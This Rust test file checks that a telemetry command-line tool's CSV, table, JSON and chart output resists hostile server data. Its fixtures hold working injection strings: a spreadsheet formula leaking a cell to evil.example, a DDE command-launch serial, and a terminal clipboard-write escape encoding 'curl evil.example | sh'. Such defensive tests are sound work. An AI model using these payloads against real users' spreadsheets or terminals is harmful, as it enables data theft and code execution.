//! Output that cannot be turned against its reader: server text with spreadsheet formulas
//! and terminal escapes, tables as wide as the terminal, charts of extreme values.

use std::path::Path;
use std::time::Duration;

use crate::support::*;
use serde_json::{Value, json};

/// Text a spreadsheet would run, or a terminal would act on.
const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
const COMMAND_SERIAL: &str = "+cmd|' /C calc'!A0";
const CLIPBOARD_WRITE: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}Lobby";
const CLEAR_SCREEN: &str = "\u{1b}[2J\u{1b}[HAll good\r";
const C1_CSI: &str = "\u{9b}31mred";

/// A server whose devices, readings, notifications and errors carry hostile text.
async fn hostile() -> Scripted {
    Scripted::start(|req| async move {
        let path = req.path.as_str();
        if path == "/v1/devices" {
            return reply(
                200,
                json!([
                    {"physical_id": "@SUM(1+1)", "name": FORMULA_NAME, "serial": COMMAND_SERIAL,
                     "type": "airbird", "meta": {}},
                    {"physical_id": "D1", "name": CLIPBOARD_WRITE, "serial": "-2+3",
                     "type": "ambinode", "meta": {"note": C1_CSI}},
                    {"physical_id": "D2", "name": CLEAR_SCREEN, "serial": "-12.5",
                     "type": "bacnet", "meta": {}},
                ]),
            );
        }
        if path == "/v1/notifications" {
            return reply(
                200,
                json!([{"id": 7, "physical_id": "D1", "category": "=1+1",
                        "message": CLIPBOARD_WRITE, "created_at": "2026-03-29T15:24:05Z"},
                       {"id": 6, "physical_id": "D2", "category": "thresholdAlert",
                        "message": CLEAR_SCREEN, "created_at": "2026-03-29T15:20:00Z"}]),
            );
        }
        if let Some(id) = path.strip_prefix("/v1/telemetry/") {
            if id == "missing" {
                return reply(
                    404,
                    json!({"message": format!("no {CLEAR_SCREEN} device {C1_CSI}")}),
                );
            }
            return reply(
                200,
                json!({"timestamp": "2026-03-29T15:24:05Z",
                       "data": {"co2": -5, "label": FORMULA_NAME, CLIPBOARD_WRITE: 3}}),
            );
        }
        reply(404, json!({"message": "not scripted"}))
    })
    .await
}

/// The stdout of a successful run, and its stderr.
fn run(cmd: &mut assert_cmd::Command) -> (String, String) {
    let out = cmd.assert().success().get_output().clone();
    (
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_never_run_as_formulas_unless_asked() {
    let server = hostile().await;
    for args in [
        vec!["devices"],
        vec!["latest", "--all"],
        vec!["notifications"],
    ] {
        let (csv, _) = run(server.leapcraft().args(["--format", "csv"]).args(&args));
        assert_spreadsheet_safe(&args.join(" "), &csv);
        assert!(
            csv.contains(",-12.5,") || args[0] != "devices",
            "numbers stay numbers: {csv}"
        );
    }
    let (csv, _) = run(server.leapcraft().args(["--format", "csv", "devices"]));
    let (_, rows) = parse_csv(&csv);
    assert_eq!(rows[0][0], "'@SUM(1+1)");
    assert_eq!(rows[0][1], format!("'{FORMULA_NAME}"));
    assert_eq!(rows[0][2], format!("'{COMMAND_SERIAL}"));
    assert_eq!(rows[1][2], "'-2+3");

    let (raw, _) = run(server
        .leapcraft()
        .args(["--format", "csv", "--raw-csv", "devices"]));
    let (_, rows) = parse_csv(&raw);
    assert_eq!(
        rows[0][1], FORMULA_NAME,
        "--raw-csv writes cells as received"
    );
    assert_eq!(rows[0][2], COMMAND_SERIAL);

    let help = stdout_of(bare().arg("--help"));
    assert!(
        help.contains("--raw-csv") && help.contains("formula"),
        "{help}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tables_and_errors_show_control_characters_escaped() {
    let server = hostile().await;
    for args in [
        vec!["devices"],
        vec!["latest", "--all"],
        vec!["notifications"],
    ] {
        let (table, _) = run(server.leapcraft().args(&args));
        assert_terminal_safe(&args.join(" "), table.as_bytes());
        assert!(table.contains("\\u{1b}"), "shown escaped: {table}");
    }
    let failed = server
        .leapcraft()
        .args(["latest", "D1", "missing"])
        .assert()
        .code(4)
        .get_output()
        .clone();
    assert_terminal_safe("stdout", &failed.stdout);
    assert_terminal_safe("stderr", &failed.stderr);
    let stderr = String::from_utf8(failed.stderr).unwrap();
    assert!(
        stderr.contains("\\u{1b}[2J") && stderr.contains("\\u{9b}"),
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_stays_faithful_and_safe_to_show() {
    let server = hostile().await;
    let (text, _) = run(server.leapcraft().args(["--format", "json", "devices"]));
    assert_terminal_safe("json", text.as_bytes());
    let devices: Vec<Value> = serde_json::from_str(&text).unwrap();
    assert_eq!(devices[0]["name"], FORMULA_NAME);
    assert_eq!(devices[1]["name"], CLIPBOARD_WRITE);
    assert_eq!(devices[1]["meta"]["note"], C1_CSI);
    assert_eq!(devices[2]["name"], CLEAR_SCREEN);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tables_fit_the_terminal_width() {
    let fake = fake().await;
    for args in [
        vec!["devices"],
        vec!["latest", "--all"],
        vec!["notifications"],
    ] {
        let (table, _) = run(leapcraft(&fake).env("COLUMNS", "60").args(&args));
        for line in table.lines() {
            assert!(line.chars().count() <= 60, "{args:?}: {line:?}");
        }
        assert!(table.contains('…'), "wide cells are cut: {table}");
    }
    let (csv, _) = run(leapcraft(&fake)
        .env("COLUMNS", "60")
        .args(["--format", "csv", "devices"]));
    assert!(!csv.contains('…'), "only tables are cut");
}

/// Daily averages over a week, each reading with `metrics(day)` as its data.
async fn telemetry_server(metrics: fn(u32) -> Value) -> Scripted {
    Scripted::start(move |req| async move {
        if !req.path.starts_with("/v1/telemetry/") {
            return reply(404, json!({"message": "not scripted"}));
        }
        let days: Vec<Value> = (1..=7)
            .map(|day| json!({"timestamp": format!("2026-03-0{day}T00:00:00Z"), "data": metrics(day)}))
            .collect();
        reply(200, Value::Array(days))
    })
    .await
}

/// The files in `dir` but `keep`.
fn others_in(dir: &Path, keep: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p != keep)
        .map(|p| p.display().to_string())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn charts_of_extreme_values_and_many_metrics_stay_readable() {
    let server = telemetry_server(|day| {
        let mut data = json!({
            "co2": if day % 2 == 0 { 1e308 } else { -1e308 },
            "temperature": f64::MAX,
            "humidity": 5e-324,
        });
        for k in 0..300 {
            data[format!("metric_{k:03}")] = json!(k * day as usize);
        }
        data
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let chart = dir.path().join("week.svg");
    std::fs::write(&chart, "the previous chart").unwrap();
    let out = server
        .leapcraft()
        .timeout(Duration::from_secs(60))
        .args(["--format", "json"])
        .args(["telemetry", "D1"])
        .args(RANGE)
        .args(["--chart", chart.to_str().unwrap()])
        .assert()
        .success()
        .get_output()
        .clone();
    let svg = std::fs::read_to_string(&chart).unwrap();
    assert!(
        svg.starts_with("<svg") && svg.trim_end().ends_with("</svg>"),
        "whole: {svg}"
    );
    assert!(svg.contains("co2 (ppm) (×1e308)"), "huge values are scaled");
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("left out") && stderr.contains("metric_299"),
        "{stderr}"
    );
    assert!(
        others_in(dir.path(), &chart).is_empty(),
        "no temporary file left"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_chart_that_cannot_be_made_leaves_the_existing_file() {
    let server = telemetry_server(|_| json!({"label": "no numbers here"})).await;
    let dir = tempfile::tempdir().unwrap();
    let chart = dir.path().join("week.svg");
    std::fs::write(&chart, "the previous chart").unwrap();
    server
        .leapcraft()
        .args(["telemetry", "D1"])
        .args(RANGE)
        .args(["--chart", chart.to_str().unwrap()])
        .assert()
        .code(1);
    assert_eq!(
        std::fs::read_to_string(&chart).unwrap(),
        "the previous chart"
    );
    assert!(others_in(dir.path(), &chart).is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ctrl_c_while_charting_leaves_the_existing_file() {
    let (asked, mut events) = tokio::sync::mpsc::unbounded_channel();
    let server = Scripted::start(move |_| {
        let asked = asked.clone();
        async move {
            let _ = asked.send(());
            std::future::pending::<()>().await;
            unreachable!()
        }
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let chart = dir.path().join("week.svg");
    std::fs::write(&chart, "the previous chart").unwrap();
    let args: Vec<&str> = ["telemetry", "D1"]
        .into_iter()
        .chain(RANGE)
        .chain(["--chart", chart.to_str().unwrap()])
        .collect();
    let child = spawn_at(server.base_url(), KEY, &args);
    next_event(&mut events).await;
    interrupt(&child);
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(130), "{output:?}");
    assert_eq!(
        std::fs::read_to_string(&chart).unwrap(),
        "the previous chart"
    );
    assert!(others_in(dir.path(), &chart).is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_bad_record_hides_no_other_and_is_reported_by_default() {
    use leapcraft_fake::{Corruption, FakeServer};
    let fake = FakeServer::builder()
        .devices(6)
        .corrupt_device(1, Corruption::InvalidUtf8)
        .corrupt_device(3, Corruption::LoneSurrogate)
        .corrupt_device(4, Corruption::Unreadable)
        .start()
        .await
        .unwrap();
    let out = leapcraft(&fake)
        .args(["--format", "json", "devices", "--all"])
        .assert()
        .success()
        .get_output()
        .clone();
    let devices: Vec<Value> = serde_json::from_slice(&out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    let listed = ids(&devices, "physical_id");
    let data = fake.dataset();
    let expected: Vec<String> = [0, 1, 2, 3, 5].map(|i| data.physical_id(i)).to_vec();
    assert_eq!(
        listed, expected,
        "every readable device, the unreadable one skipped"
    );
    for i in [1, 3] {
        let name = devices[i]["name"].as_str().unwrap();
        assert!(name.contains('\u{fffd}'), "device {i}: {name:?}");
    }
    // Without -v: the warnings say what was repaired and what was skipped.
    assert!(stderr.contains("cannot be read; skipped"), "{stderr}");
    assert!(stderr.contains("U+FFFD"), "{stderr}");
    assert!(stderr.contains("WARN"), "{stderr}");
}
